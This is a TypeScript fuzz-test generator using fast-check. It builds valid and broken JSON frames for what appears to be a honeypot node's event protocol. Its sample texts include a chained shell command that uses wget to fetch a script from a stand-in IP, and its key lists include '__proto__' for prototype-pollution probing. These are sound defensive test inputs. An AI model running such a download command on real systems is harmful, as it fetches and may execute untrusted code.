/**
 * Frames to test with: a table of good and bad ones written by hand, with the verdict each must get, and generators
 * that spell valid frames in every allowed way and then break them. Seeded, so a failure can be met again.
 */
import fc from 'fast-check';
import { EDGE_IDS, event, NODE_ID, nested } from './frame-table.js';

/** All randomness of the tests of the data plane starts here; fast-check prints it with every failure. */
export const SEED = 20_261_120;

// ---- generated ------------------------------------------------------------------------------------------------

/** Stands for "white space may be here" until a frame is spelt. */
const GAP = '\ue000';

const TEXTS = [
  '',
  'root',
  'ssh-1',
  'ls -la /tmp; wget http://198.51.100.7/x.sh',
  '"quoted" and \\back\\slashed\\',
  'a/b',
  '\u2028\u2029\ufeff\u007f',
  'żółw 🐝 عربى 日本語',
  '\u0000\u0001\u001f\b\f\n\r\t',
  '{"version":2}',
  'x'.repeat(70),
];
const text = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...TEXTS) },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 10 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 10 }) },
);

const SHORT_ESCAPES: Record<string, string> = {
  '"': '\\"',
  '\\': '\\\\',
  '/': '\\/',
  '\b': '\\b',
  '\f': '\\f',
  '\n': '\\n',
  '\r': '\\r',
  '\t': '\\t',
};

function unicodeEscape(character: string, upper: boolean): string {
  return Array.from({ length: character.length }, (_, i) => {
    const hex = character.charCodeAt(i).toString(16).padStart(4, '0');
    return `\\u${upper ? hex.toUpperCase() : hex}`;
  }).join('');
}

/** A string in JSON; `styles`, taken round and round, say which characters are escaped without need, and how. */
function spell(value: string, styles: readonly number[]): string {
  const spelt = Array.from(value, (character, i) => {
    const style = styles[i % styles.length]!;
    const needed = character < ' ' || character === '"' || character === '\\';
    if (style === 7 || character === GAP) return unicodeEscape(character, i % 2 === 0);
    if (needed || style === 6)
      return SHORT_ESCAPES[character] ?? (needed ? unicodeEscape(character, false) : character);
    return character;
  });
  return `"${spelt.join('')}"`;
}

const plainStyle = fc.constant([0]);
const anyStyle = fc.array(fc.nat(7), { minLength: 1, maxLength: 5 });
const style = fc.oneof({ weight: 3, arbitrary: plainStyle }, { weight: 1, arbitrary: anyStyle });
const jsonString = fc.oneof(
  { weight: 12, arbitrary: fc.tuple(text, style).map(([value, styles]) => spell(value, styles)) },
  { weight: 1, arbitrary: fc.constantFrom('"\\ud800"', '"\\udc00\\uD83D"', '"\\u0000"', '"\\/\\b"') },
);
const jsonNumber = fc.oneof(
  fc.constantFrom('0', '-0', '1e999', '-1E-999', '1.50', '2E+3', '9007199254740993', '18446744073709551616'),
  fc.constantFrom('0.1e1', '123456789012345678901234567890', '-0.0', '1e-07'),
  fc.integer().map(String),
  fc.double({ noDefaultInfinity: true, noNaN: true }).map((value) => JSON.stringify(value)),
);
const scalar = fc.oneof(
  { weight: 3, arbitrary: jsonString },
  { weight: 2, arbitrary: jsonNumber },
  { weight: 1, arbitrary: fc.constantFrom('true', 'false', 'null') },
);

type Entry = readonly [key: string, value: string];

function objectOf(entries: readonly Entry[]): string {
  const members = entries.map(([key, value]) => `${GAP}${key}${GAP}:${GAP}${value}${GAP}`);
  return `{${members.length === 0 ? GAP : members.join(',')}}`;
}

function arrayOf(elements: readonly string[]): string {
  return `[${elements.map((element) => GAP + element + GAP).join(',')}${GAP}]`;
}

const { value: tree } = fc.letrec<{ value: string }>((tie) => ({
  value: fc.oneof(
    { maxDepth: 4, depthSize: 'small', withCrossShrink: true },
    scalar,
    fc.array(tie('value'), { maxLength: 3 }).map(arrayOf),
    fc.array(fc.tuple(jsonString, tie('value')), { maxLength: 3 }).map(objectOf),
  ),
}));

/** Containers in containers: the depth they add, around the limit and far above it. */
const deep = fc
  .tuple(
    fc.oneof(
      { weight: 8, arbitrary: fc.integer({ min: 505, max: 512 }) },
      { weight: 1, arbitrary: fc.constantFrom(600, 1_023, 1_030, 10_000) },
    ),
    fc.nat(2),
  )
  .map(([depth, kind]) => {
    if (kind === 0) return nested(depth);
    if (kind === 1) return `${'{"":'.repeat(depth - 1)}{}${'}'.repeat(depth - 1)}`;
    const pairs = Math.floor(depth / 2);
    return `${'[{"a":'.repeat(pairs)}${depth % 2 ? '[]' : '0'}${'}]'.repeat(pairs)}`;
  });
const anyValue = fc.oneof({ weight: 40, arbitrary: tree }, { weight: 1, arbitrary: deep });

/** Text that no value is, where one is expected. */
const brokenValue = fc.constantFrom(
  ...[
    '01',
    '+1',
    '.5',
    '1.',
    '1e',
    '1e+',
    '--1',
    '-',
    'NaN',
    'Infinity',
    'tru',
    'nul',
    'True',
    'truee',
    'null0',
  ],
  ...[
    "'a'",
    '0x10',
    '1_0',
    '"\\x"',
    '"\\u12g4"',
    '"\\u12"',
    '"a\tb"',
    '"a\u0000b"',
    '"\u001f"',
    'undefined',
    '"',
  ],
  ...[
    '"a',
    '1 2',
    '1"a"',
    '"a"1',
    '"a""b"',
    '[1,]',
    '{"a"}',
    '{"a":}',
    '{,}',
    '{"a":1,}',
    '[,1]',
    '{1:2}',
    '[1 2]',
  ],
  ...[
    '{"a" 1}',
    '[',
    '{',
    ']',
    '}',
    '',
    ',',
    ':',
    '"\\',
    '"\\"',
    '\ufeff1',
    '\u00a01',
    '/**/1',
    '1/**/',
    '\f1',
    '1\u0000',
  ],
  ...['[1}', '{"a":1]', '{"a":1:2}', '[1:2]', '{"a":1}}', '{{}}', '{[]:1}', '"a"\f', '\v2', '2\u001a', '2\f'],
);
const idText = fc.oneof(
  { weight: 6, arbitrary: fc.constant(NODE_ID) },
  { weight: 2, arbitrary: fc.constantFrom(...EDGE_IDS) },
  { weight: 1, arbitrary: fc.bigInt(1n, 2n ** 64n - 1n).map(String) },
  {
    weight: 2,
    arbitrary: fc.constantFrom(
      ...[
        '0',
        '-0',
        '-1',
        '1.0',
        '1e3',
        '1E0',
        '18446744073709551616',
        '99999999999999999999',
        '184467440737095516150',
      ],
      ...[
        '1e999',
        '9007199254740993.0',
        `${NODE_ID}0`,
        NODE_ID.slice(1),
        `"${NODE_ID}"`,
        `[${NODE_ID}]`,
        `-${NODE_ID}`,
      ],
      ...[`0${NODE_ID}`, `${NODE_ID} 1`, 'null'],
    ),
  },
);
const isoTime = fc.oneof(
  {
    weight: 6,
    arbitrary: fc
      .tuple(
        fc.date({
          min: new Date('0000-01-01'),
          max: new Date('9999-12-31T23:59:59.999Z'),
          noInvalidDate: true,
        }),
        fc.constantFrom('T', 'T', ' '),
        fc.constantFrom('', '.1', '.123', '.123456789', '.1234567890', '.'),
        fc.constantFrom(
          '',
          'Z',
          '+00:00',
          '-0930',
          '+2359',
          '+24:00',
          '+1:00',
          '+01:60',
          'z',
          'ZZ',
          '+010',
          '-01:0',
        ),
      )
      .map(([date, separator, fraction, zone]) => {
        const iso = date.toISOString();
        return `${iso.slice(0, 10)}${separator}${iso.slice(11, 19)}${fraction}${zone}`;
      }),
  },
  {
    weight: 2,
    arbitrary: fc.constantFrom(
      ...[
        '2024-02-29T23:59:60Z',
        '2023-02-29T00:00:00Z',
        '2000-02-29T00:00:00',
        '1900-02-29T00:00:00',
        '2026-00-10T00:00:00',
      ],
      ...[
        '2026-13-10T00:00:00',
        '2026-04-31T00:00:00',
        '2026-04-00T00:00:00',
        '2026-04-30T24:00:00',
        '2026-04-30T23:60:00',
      ],
      ...[
        '2026-04-30T23:59:61',
        '2026-04-30t23:59:59',
        '2026-04-30',
        '2026-4-30T23:59:59',
        '',
        '2026-04-30T23:59',
        '+2026-04-30T23:59:59',
      ],
      ...[
        '2026/04/30T23:59:59',
        '2026-04-30T23.59.59',
        '2026-04-30T23:59:5:',
        '2026-04-30T23:59:59,5',
        ' 2026-04-30T23:59:59Z',
        '２026-04-30T23:59:59',
      ],
    ),
  },
  {
    weight: 12,
    arbitrary: fc.constantFrom(
      '2026-11-20T12:00:00Z',
      '2026-11-20T12:00:01.5+01:00',
      '2026-11-21 12:00:00.123456789',
    ),
  },
);
const stringOf = (value: fc.Arbitrary<string>) =>
  fc.tuple(value, style).map(([s, styles]) => spell(s, styles));
const unixTime = fc.oneof(
  { weight: 3, arbitrary: fc.integer({ min: 0, max: 2_000_000_000 }).map(String) },
  {
    weight: 2,
    arbitrary: fc.constantFrom(
      ...[
        '1700000000.5',
        '1700000000.1234567891234',
        '253402300799',
        '253402300799.999',
        '253402300800',
        '-1',
        '-0',
      ],
      ...['1.7e9', '1e999', '0', '0.0', '9999999999999', '"1700000000"', '01', '1700000000.'],
    ),
  },
);
const version = fc.oneof(
  { weight: 30, arbitrary: fc.constant('2') },
  { weight: 2, arbitrary: fc.constantFrom('2.0', '2e0', '20e-1', '2.00000000000000000001', '0.2E+1') },
  {
    weight: 2,
    arbitrary: fc.constantFrom('1', '3', '22', '-2', '"2"', 'null', '1e999', '2.5', '02', '{}', '2 2'),
  },
);

interface Field {
  readonly name: string;
  readonly value: fc.Arbitrary<string>;
  /** How often, of 16, the field is left out. */
  readonly absent?: number;
}

function f(name: string, value: fc.Arbitrary<string>, absent = 0): Field {
  return { name, value, absent };
}

const KNOWN_KEYS = [
  'version',
  'message',
  'PotEvent',
  'node_id',
  'pot_id',
  'pot_type',
  'event_type',
  'timestamp',
  'data',
  'event',
];
const STRANGE_KEYS = [
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  '',
  'é',
  'node_ids',
  'dat',
  'data2',
  'timestam',
  'timestamps',
];
const OTHER_KEYS = [
  'metadata',
  'status',
  'type',
  'description',
  'port',
  'pot_idx',
  'eventtype',
  'event_types',
  'pot_typ',
  'versions',
  'Message',
];
const extraKey = fc.oneof(
  { weight: 6, arbitrary: fc.constantFrom(...STRANGE_KEYS, ...OTHER_KEYS) },
  { weight: 1, arbitrary: fc.constantFrom(...KNOWN_KEYS) },
  { weight: 1, arbitrary: text },
);
const extras = fc.oneof(
  { weight: 3, arbitrary: fc.constant<Entry[]>([]) },
  { weight: 1, arbitrary: fc.array(fc.tuple(stringOf(extraKey), anyValue), { maxLength: 3 }) },
);
const rareStyle = fc.oneof({ weight: 30, arbitrary: plainStyle }, { weight: 1, arbitrary: anyStyle });

/** An object with these fields, in any order, with others between them; seldom with one missing or of a wrong type. */
function object(fields: readonly Field[]): fc.Arbitrary<string> {
  const entries = fields.map(({ name, value, absent = 0 }) =>
    fc
      .tuple(
        rareStyle,
        fc.oneof(
          { weight: 60, arbitrary: value },
          { weight: 1, arbitrary: anyValue },
          { weight: 1, arbitrary: brokenValue },
        ),
        fc.nat(159),
        fc.nat(15),
      )
      .map(([styles, spelt, missing, left]): Entry | undefined =>
        missing === 0 || left < absent ? undefined : [spell(name, styles), spelt],
      ),
  );
  return fc
    .tuple(fc.tuple(...entries), extras, fc.array(fc.nat(99), { minLength: 12, maxLength: 12 }), fc.nat(2))
    .map(([own, more, order, shuffled]) => {
      const all = [...own.filter((entry) => entry !== undefined), ...more];
      if (shuffled === 0) {
        const place = new Map(all.map((entry, i) => [entry, order[i % order.length]!]));
        all.sort((a, b) => place.get(a)! - place.get(b)!);
      }
      return objectOf(all);
    });
}

const nodeId = f('node_id', idText);
const potId = f('pot_id', jsonString);
const data = f('data', fc.array(fc.tuple(jsonString, anyValue), { maxLength: 4 }).map(objectOf));
const optionalText = (name: string) => f(name, fc.oneof(jsonString, jsonString, fc.constant('null')), 8);
const oneOf = (...names: string[]) => stringOf(fc.constantFrom(...names));

const BODIES: Record<string, fc.Arbitrary<Entry>> = {
  documented: object([
    nodeId,
    potId,
    f('pot_type', jsonString, 1),
    f('event_type', jsonString),
    f('timestamp', stringOf(isoTime)),
    data,
  ]).map((body) => ['PotEvent', body]),
  compiled: object([
    nodeId,
    potId,
    f('pot_type', jsonString, 4),
    f('event', jsonString),
    f('timestamp', unixTime),
    optionalText('message'),
    f(
      'metadata',
      fc.oneof(
        { weight: 6, arbitrary: fc.array(fc.tuple(jsonString, jsonString), { maxLength: 3 }).map(objectOf) },
        { weight: 1, arbitrary: fc.array(fc.tuple(jsonString, tree), { maxLength: 3 }).map(objectOf) },
        { weight: 1, arbitrary: fc.constant('null') },
      ),
      6,
    ),
  ]).map((body) => ['PotEvent', body]),
  potStatus: object([
    nodeId,
    potId,
    f('pot_type', jsonString),
    f('status', oneOf('Installing', 'Running', 'Stopped', 'Failed', '', '', 'running')),
    optionalText('message'),
  ]).map((body) => ['PotStatusUpdate', body]),
  nodeStatus: object([
    nodeId,
    f('status', oneOf('Connected', 'Deploying', 'Running', 'Stopped', 'Failed', 'Unknown', 'Up')),
  ]).map((body) => ['NodeStatusUpdate', body]),
  nodeEvent: fc
    .oneof(
      object([
        f('type', oneOf('Started', 'Stopped', 'Alarm', 'Error', 'Other')),
        optionalText('message'),
        optionalText('description'),
      ]),
      oneOf('Started', 'Stopped', 'Alarm', 'Error', 'Other'),
      fc
        .tuple(
          oneOf('Started', 'Stopped', 'Alarm', 'Error', 'Other'),
          fc.oneof(
            object([optionalText('message'), optionalText('description')]),
            fc.constantFrom('null', '{}', '[]', '""'),
          ),
          extras,
        )
        .map(([name, inner, more]) => objectOf([[name, inner], ...more])),
    )
    .map((body) => ['NodeEvent', body]),
  registration: object([
    nodeId,
    f(
      'node_name',
      fc.oneof(
        { weight: 5, arbitrary: jsonString },
        { weight: 1, arbitrary: fc.constantFrom(255, 256).map((n) => `"${'🐝'.repeat(n)}"`) },
      ),
    ),
    f('address', jsonString),
    f(
      'port',
      fc.oneof(
        fc.nat(65_535).map(String),
        fc.constantFrom('65535', '65536', '0', '80.0', '8e1', '-1', '"80"'),
      ),
    ),
    f('node_type', oneOf('Full', 'Full', 'Agent', 'full')),
    optionalText('totp_code'),
  ]).map((body) => ['NodeRegistration', body]),
  nodeDrop: fc
    .oneof(fc.constantFrom('{}', 'null'), object([]), fc.constantFrom('[]', '""', '0', 'true'))
    .map((body) => ['NodeDrop', body]),
};

const namedBody: fc.Arbitrary<Entry> = fc.oneof(
  { weight: 8, arbitrary: BODIES.documented! },
  { weight: 2, arbitrary: BODIES.compiled! },
  { weight: 2, arbitrary: BODIES.potStatus! },
  { weight: 1, arbitrary: BODIES.nodeStatus! },
  { weight: 1, arbitrary: BODIES.nodeEvent! },
  { weight: 2, arbitrary: BODIES.registration! },
  { weight: 1, arbitrary: BODIES.nodeDrop! },
);

function message(body: fc.Arbitrary<Entry>): fc.Arbitrary<string> {
  const named = fc
    .tuple(body, rareStyle)
    .map(([[name, value], styles]): Entry => [spell(name, styles), value]);
  return fc.oneof(
    { weight: 40, arbitrary: named.map((entry) => objectOf([entry])) },
    { weight: 1, arbitrary: oneOf('NodeDrop', 'NodeDrop', 'Started') },
    { weight: 1, arbitrary: fc.tuple(named, named).map(objectOf) },
    { weight: 1, arbitrary: fc.tuple(stringOf(extraKey), anyValue).map((entry) => objectOf([entry])) },
    { weight: 1, arbitrary: anyValue },
  );
}

function envelope(body: fc.Arbitrary<Entry>): fc.Arbitrary<string> {
  return object([f('version', version), f('message', message(body))]);
}

const NO_SPACE: fc.Arbitrary<string[]> = fc.constant(['']);
const space = fc.oneof(
  { weight: 4, arbitrary: NO_SPACE },
  {
    weight: 1,
    arbitrary: fc.array(fc.constantFrom('', '', ' ', '\t', '  ', '\r'), { minLength: 1, maxLength: 7 }),
  },
);
const spaceWithNewlines = fc.oneof(
  space,
  fc.array(fc.constantFrom('', ' ', '\n', '\r\n', '\n  '), { minLength: 1, maxLength: 7 }),
);

function withSpace(spelt: string, spaces: readonly string[]): string {
  let gap = 0;
  return spelt.replaceAll(GAP, () => spaces[gap++ % spaces.length]!);
}

// ---- broken ---------------------------------------------------------------------------------------------------

type Mutation = (bytes: Buffer) => Buffer;

const INSERTS = [
  ...[
    '"',
    '\\',
    '{',
    '}',
    '[',
    ']',
    ',',
    ':',
    '0',
    '-',
    '.',
    'e',
    ' ',
    '\r',
    '\t',
    '\u0000',
    '\u0001',
    '\u001f',
    '\u007f',
    '\\u12',
    '\\u00zz',
  ],
  ...[
    '\\"',
    '\\/',
    '\ufeff',
    '\u00a0',
    '\u2028',
    '\f',
    '\v',
    '"node_id":1,',
    '"version":2,',
    '"__proto__":1,',
    ',"a":1',
    '//',
    '\u001a',
  ],
].map((inserted) => Buffer.from(inserted));
const RAW_INSERTS = [
  [0xff],
  [0x80],
  [0xc0, 0xaf],
  [0xed, 0xa0, 0x80],
  [0xed, 0xb0, 0x80],
  [0xf0, 0x9f, 0x90],
  [0xf4, 0x90, 0x80, 0x80],
  [0xe0, 0x80, 0xaf],
  [0xc3],
  [0xfe, 0xff],
];
const insert = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...INSERTS) },
  { weight: 1, arbitrary: fc.constantFrom(...RAW_INSERTS.map((bytes) => Buffer.from(bytes))) },
  { weight: 1, arbitrary: fc.integer({ min: 0, max: 255 }).map((byte) => Buffer.from([byte])) },
);
const place = fc.double({ min: 0, max: 1, noNaN: true });
const at = (bytes: Buffer, fraction: number) =>
  Math.min(bytes.length, Math.floor(fraction * (bytes.length + 1)));

const mutation: fc.Arbitrary<Mutation> = fc.oneof(
  fc.tuple(place, insert).map(
    ([where, inserted]): Mutation =>
      (bytes) => {
        const i = at(bytes, where);
        return Buffer.concat([bytes.subarray(0, i), inserted, bytes.subarray(i)]);
      },
  ),
  fc.tuple(place, insert).map(
    ([where, inserted]): Mutation =>
      (bytes) => {
        const i = at(bytes, where);
        return Buffer.concat([
          bytes.subarray(0, i),
          inserted,
          bytes.subarray(Math.min(bytes.length, i + inserted.length)),
        ]);
      },
  ),
  fc.tuple(place, fc.nat(7)).map(
    ([where, bit]): Mutation =>
      (bytes) => {
        const flipped = Buffer.from(bytes);
        const i = at(bytes, where);
        if (i < bytes.length) flipped[i]! ^= 1 << bit;
        return flipped;
      },
  ),
  fc.tuple(place, fc.oneof(fc.constant(1), fc.nat(20))).map(
    ([where, length]): Mutation =>
      (bytes) => {
        const i = at(bytes, where);
        return Buffer.concat([bytes.subarray(0, i), bytes.subarray(Math.min(bytes.length, i + length))]);
      },
  ),
  fc.tuple(place, fc.nat(30), place).map(
    ([from, length, to]): Mutation =>
      (bytes) => {
        const i = at(bytes, from);
        const j = at(bytes, to);
        return Buffer.concat([bytes.subarray(0, j), bytes.subarray(i, i + length), bytes.subarray(j)]);
      },
  ),
  place.map(
    (where): Mutation =>
      (bytes) =>
        bytes.subarray(0, at(bytes, where)),
  ),
);
const mutations = fc.oneof(
  { weight: 8, arbitrary: fc.constant<Mutation[]>([]) },
  { weight: 3, arbitrary: fc.array(mutation, { minLength: 1, maxLength: 1 }) },
  { weight: 1, arbitrary: fc.array(mutation, { minLength: 2, maxLength: 4 }) },
);

function bytesOf(spelt: fc.Arbitrary<string>, spaces: fc.Arbitrary<string[]>): fc.Arbitrary<Buffer> {
  return fc
    .tuple(spelt, spaces, mutations)
    .map(([frameText, gaps, broken]) =>
      broken.reduce<Buffer>((bytes, mutate) => mutate(bytes), Buffer.from(withSpace(frameText, gaps))),
    );
}

/** A frame as it may come, good or bad; may hold newlines. */
export const anyFrame: fc.Arbitrary<Buffer> = bytesOf(envelope(namedBody), spaceWithNewlines);

/** A line without its newline: mostly events; sometimes blank, sometimes with white space around it. */
export const anyLine: fc.Arbitrary<Buffer> = fc
  .tuple(
    fc.oneof(
      { weight: 4, arbitrary: bytesOf(envelope(BODIES.documented!), space) },
      { weight: 2, arbitrary: bytesOf(envelope(namedBody), space) },
      { weight: 2, arbitrary: fc.constant(Buffer.from(event())) },
      {
        weight: 1,
        arbitrary: fc.constantFrom('', '', ' ', '\t \r', '\r\r').map((blank) => Buffer.from(blank)),
      },
    ),
    fc.constantFrom('', '', '', '', ' ', '\t', '  \t '),
    fc.constantFrom('', '', '', '\r', '\r', ' ', ' \t\r'),
  )
  .map(([bytes, before, behind]) => {
    const line = Buffer.concat([Buffer.from(before), bytes, Buffer.from(behind)]);
    for (let i = line.indexOf(10); i >= 0; i = line.indexOf(10, i)) line[i] = 0x20;
    return line;
  });

const plainString = fc.oneof(
  jsonString,
  jsonString,
  text.map((value) => JSON.stringify(value)),
);
const plainTree = fc.array(fc.tuple(plainString, tree), { maxLength: 4 }).map(objectOf);

/** Documented events of NODE_ID, compact, keys in any order, on one line: what a scanner must never leave to others. */
export const plainEvent: fc.Arbitrary<string> = fc
  .tuple(
    plainString,
    plainString,
    plainString,
    fc.constantFrom(
      '2026-11-20T12:00:00Z',
      '2024-02-29 23:59:60',
      '0000-01-01T00:00:00.1+1400',
      '9999-12-31T23:59:59.123456789-00:00',
    ),
    plainTree,
    fc.array(fc.nat(99), { minLength: 6, maxLength: 6 }),
    fc.boolean(),
  )
  .map(([pot, type, name, time, values, order, versionFirst]) => {
    const entries: Entry[] = [
      ['"node_id"', NODE_ID],
      ['"pot_id"', pot],
      ['"pot_type"', type],
      ['"event_type"', name],
      ['"timestamp"', `"${time}"`],
      ['"data"', values],
    ];
    const place = new Map(entries.map((entry, i) => [entry, order[i]!]));
    entries.sort((a, b) => place.get(a)! - place.get(b)!);
    const both: Entry[] = [
      ['"version"', '2'],
      ['"message"', objectOf([['"PotEvent"', objectOf(entries)]])],
    ];
    return withSpace(objectOf(versionFirst ? both : both.reverse()), ['']);
  });
